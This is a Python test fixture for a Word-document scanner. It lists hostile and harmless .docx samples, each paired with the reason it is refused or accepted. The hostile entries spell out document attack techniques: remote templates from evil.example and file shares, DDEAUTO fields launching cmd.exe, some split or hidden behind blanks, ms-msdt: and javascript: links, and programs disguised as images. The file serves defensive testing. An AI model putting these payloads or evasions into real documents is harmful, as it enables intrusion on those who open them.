"""Word documents, harmless and hostile, each to be written in the forms of docx_forms.py."""

from collections.abc import Mapping
from random import Random
from typing import Final

from tests.imaging.documents import archive, content_types, ole
from tests.imaging.docx_forms import (
    BEGIN,
    END,
    EXE,
    KINDS,
    SEPARATE,
    STRICT,
    Parts,
    W,
    instruction,
    relationship,
    workbook,
)

_EXTERNAL: Final = "loads_from_elsewhere"
_OBJECT: Final = "an OLE object or a control"
#: In no order, so that they aren't refused for how far they unpack.
_BLANKS: Final = bytes(Random(1).choices(b" \t\r\n", k=300_000))
_TYPED: Final = content_types().replace(
    b"<Override", b'<Default Extension="BIN" ContentType="application/vnd.clinic+xml"/><Override'
)
_DDE: Final = f'<w:hdr xmlns:w="{W}"><w:fldSimple w:instr="DDE cmd"/></w:hdr>'.encode()
_VML: Final = 'xmlns:v="urn:schemas-microsoft-com:vml"'
_OFFICE: Final = 'xmlns:o="urn:schemas-microsoft-com:office:office"'

#: What is refused, by name: the parts, the reason and what is named as found.
HOSTILE: Final[Mapping[str, tuple[Parts, str, str]]] = {
    "a template of a server": (
        Parts(relationships=relationship("attachedTemplate", "https://evil.example/a.dotm")),
        _EXTERNAL,
        "the external relationship attachedTemplate",
    ),
    "a template of a share": (
        Parts(relationships=relationship("attachedTemplate", "file:///\\\\evil\\share\\a.dot")),
        _EXTERNAL,
        "the external relationship attachedTemplate",
    ),
    "a template of a share, escaped": (
        Parts(relationships=relationship("attachedTemplate", "file://evil/share/a.dot")),
        _EXTERNAL,
        "the external relationship attachedTemplate",
    ),
    "a template with its letters as numbers": (
        Parts(relationships=relationship("attached&#84;emplate", "&#104;ttps://evil.example/a.dotm")),
        _EXTERNAL,
        "the external relationship attachedTemplate",
    ),
    "an address that calls itself internal": (
        Parts(relationships=relationship("attachedTemplate", "http://evil.example/a.dotm", "Internal")),
        _EXTERNAL,
        "the external relationship attachedTemplate",
    ),
    "a picture of a server": (
        Parts(relationships=relationship("image", "https://evil.example/a.png")),
        _EXTERNAL,
        "the external relationship image",
    ),
    "a linked object": (
        Parts(relationships=relationship("oleObject", "mhtml:https://evil.example/a.html!x")),
        "embedded_program",
        _OBJECT,
    ),
    "something of a kind that nobody knows": (
        Parts(relationships=relationship("whatever", "https://evil.example/")),
        _EXTERNAL,
        "an external relationship",
    ),
    "a foreign document inside": (
        Parts(relationships=relationship("aFChunk", "chunk.html", "Internal")),
        _EXTERNAL,
        "the relationship aFChunk",
    ),
    "an add-in": (
        Parts(relationships=relationship("webextensiontaskpanes", "taskpanes.xml", "Internal")),
        _EXTERNAL,
        "the relationship webextensiontaskpanes",
    ),
    "a control": (
        Parts(relationships=relationship("control", "activeX1.xml", "Internal")),
        "embedded_program",
        _OBJECT,
    ),
    "a hyperlink that is a script": (
        Parts(relationships=relationship("hyperlink", "java&#9;script:alert(1)")),
        "runs_on_opening",
        "a hyperlink with javascript:",
    ),
    "a hyperlink to a program": (
        Parts(relationships=relationship("hyperlink", "file:///C:/Windows/System32/calc.exe")),
        "embedded_program",
        "a file with the ending .exe",
    ),
    "a hyperlink to a handler": (
        Parts(relationships=relationship("hyperlink", "ms-msdt:/id")),
        "runs_on_opening",
        "a hyperlink with ms-msdt:",
    ),
    "a field that starts a program": (
        Parts(instruction(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")),
        "runs_on_opening",
        "the field DDEAUTO",
    ),
    "a field in pieces": (Parts(instruction("DD", "EAU", "TO cmd")), "runs_on_opening", "the field DDEAUTO"),
    "a simple field": (
        Parts('<w:p><w:fldSimple w:instr="&#68;DE cmd"/></w:p>'),
        "runs_on_opening",
        "the field DDE",
    ),
    "a strict document with a field": (
        Parts(instruction("DDEAUTO cmd"), namespace=STRICT),
        "runs_on_opening",
        "the field DDEAUTO",
    ),
    "a field that another one names": (
        Parts(f"<w:p>{BEGIN}{instruction('QUOTE 68 68 69')}{SEPARATE}{END}</w:p>"),
        "runs_on_opening",
        "a field inside of a field",
    ),
    "a field behind 5000 blanks": (
        Parts(instruction(" " * 5000 + "DDEAUTO cmd")),
        "runs_on_opening",
        "the field DDEAUTO",
    ),
    "a field behind 5000 blanks in pieces": (
        Parts(instruction(" " * 3000, "\n" * 2000, "DDEA", "UTO cmd")),
        "runs_on_opening",
        "the field DDEAUTO",
    ),
    "a field without its end": (
        Parts(f"<w:p>{BEGIN}<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"),
        "runs_on_opening",
        "the field DDEAUTO",
    ),
    "a picture by a field": (
        Parts(instruction('INCLUDEPICTURE "https://evil.example/a.png" \\d')),
        _EXTERNAL,
        "the field INCLUDEPICTURE",
    ),
    "a text by a field": (Parts(instruction("IncludeText c:\\a.txt")), _EXTERNAL, "the field INCLUDETEXT"),
    "a picture in VML": (
        Parts(f'<v:shape {_VML}><v:imagedata src="https://evil.example/a.png"/></v:shape>'),
        _EXTERNAL,
        "a picture from elsewhere",
    ),
    "a picture that a hyperlink leads to": (
        Parts(
            f'<a:blip xmlns:a="urn:a" xmlns:r="{KINDS[:-1]}" r:link="r1"/>',
            relationship("hyperlink", "https://evil.example/a.png"),
        ),
        _EXTERNAL,
        "a picture from elsewhere",
    ),
    "a picture in VML that a hyperlink leads to": (
        Parts(
            f'<v:imagedata {_VML} xmlns:r="{KINDS[:-1]}" r:id="r1"/>',
            relationship("hyperlink", "https://evil.example/a.png"),
        ),
        _EXTERNAL,
        "a picture from elsewhere",
    ),
    "a part behind a mark and a line": (
        Parts(members={"word/a.bin": b"\xef\xbb\xbf\n" + _DDE}),
        "runs_on_opening",
        "the field DDE",
    ),
    "a part behind 300,000 blanks": (
        Parts(members={"word/a.bin": _BLANKS + _DDE}),
        "runs_on_opening",
        "the field DDE",
    ),
    "a part behind NULs": (Parts(members={"word/a.bin": bytes(9) + _DDE}), "unreadable", "broken XML"),
    "XML by its name": (Parts(members={"word/Header1.XML": b"+ADw-w:hdr/+AD4-"}), "unreadable", "broken XML"),
    "XML by its content type": (
        Parts(members={"[Content_Types].xml": _TYPED, "word/a.bin": b"+ADw-w:hdr/+AD4-"}),
        "unreadable",
        "broken XML",
    ),
    "an object without a relationship": (
        Parts(f'<w:object><o:OLEObject {_OFFICE} Type="Embed" ProgID="Package"/></w:object>'),
        "embedded_program",
        _OBJECT,
    ),
    "a source of data": (
        Parts(settings='<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge>'),
        _EXTERNAL,
        "the element mailMerge",
    ),
    "an OLE file by another name": (
        Parts(members={"word/media/image1.png": ole({"\x01Ole10Native": b"x"})}),
        "embedded_program",
        "an OLE object",
    ),
    "a program by another name": (
        Parts(members={"word/media/image1.png": EXE}),
        "embedded_program",
        "a Windows program",
    ),
    "a script": (Parts(members={"word/a.vbs": b"x = 1"}), "embedded_program", "a file with the ending .vbs"),
    "a workbook with a link": (
        Parts(
            members={"word/embeddings/a.xlsx": workbook(relationship("externalLinkPath", "file:///\\\\evil\\a.xlsx"))}
        ),
        _EXTERNAL,
        "an external relationship",
    ),
    "a workbook with a program": (
        Parts(members={"word/embeddings/a.xlsx": archive({"a": EXE})}),
        "embedded_program",
        "a Windows program",
    ),
    "a workbook with macros": (
        Parts(members={"word/embeddings/a.xlsx": archive({"xl/vbaProject.bin": b"x"})}),
        "macros",
        "macros or controls",
    ),
    "entities": (
        Parts(members={"word/header1.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
        "unreadable",
        "a document type in XML",
    ),
    "broken XML": (Parts("<w:p>", settings="</w:p>"), "unreadable", "broken XML"),
}

#: What is taken, by name: the parts, and whether it has fields to fill in.
HARMLESS: Final[Mapping[str, tuple[Parts, bool]]] = {
    "nothing special": (Parts("<w:p><w:r><w:t>DDEAUTO is a word here</w:t></w:r></w:p>"), False),
    "a hyperlink": (Parts(relationships=relationship("hyperlink", "https://clinic.example/a.exe?b=1")), False),
    "a hyperlink of a text and of a picture": (
        Parts(
            f'<w:hyperlink xmlns:r="{KINDS[:-1]}" r:id="r1"/><a:hlinkClick xmlns:a="urn:a" xmlns:r="{KINDS[:-1]}" '
            f'r:id="r1"/><a:blip xmlns:a="urn:a" xmlns:r="{KINDS[:-1]}" r:link="r2"/>',
            relationship("hyperlink", "https://clinic.example/"),
        ),
        False,
    ),
    "a hyperlink to a message": (Parts(relationships=relationship("hyperlink", "mailto:desk@clinic.example")), False),
    "a hyperlink to a file": (Parts(relationships=relationship("hyperlink", "file:///C:/Reports/a.docx")), False),
    "a template of the writer's disk": (
        Parts(relationships=relationship("attachedTemplate", "file:///C:\\Users\\Dr%20A\\Templates\\Report.dotx")),
        False,
    ),
    "the usual template": (Parts(relationships=relationship("attachedTemplate", "Normal.dotm")), False),
    "a page number": (Parts(instruction(" PAGE ") + '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>'), False),
    "a field of 5000 characters": (Parts(instruction(" ADDIN ZOTERO_ITEM ", "x" * 5000, " DDEAUTO")), False),
    "a hyperlink by a field": (Parts(instruction(' HYPERLINK "https://clinic.example/" ')), False),
    "a chart with its workbook": (Parts(members={"word/embeddings/a.xlsx": workbook()}), False),
    "a picture": (Parts(members={"word/media/image1.png": b"\x89PNG" + bytes(200)}), False),
    "a form field": (Parts("<w:p><w:r><w:fldChar><w:ffData/></w:fldChar></w:r></w:p>"), True),
    "a list to choose from": (Parts("<w:sdt><w:sdtPr><w:dropDownList/></w:sdtPr></w:sdt>"), True),
    "a table of contents": (Parts("<w:sdt><w:sdtPr><w:docPartObj/></w:sdtPr></w:sdt>"), False),
    "data of another kind": (
        Parts(members={"customXml/item1.xml": b'<control xmlns="urn:clinic"><mailMerge/></control>'}),
        False,
    ),
}
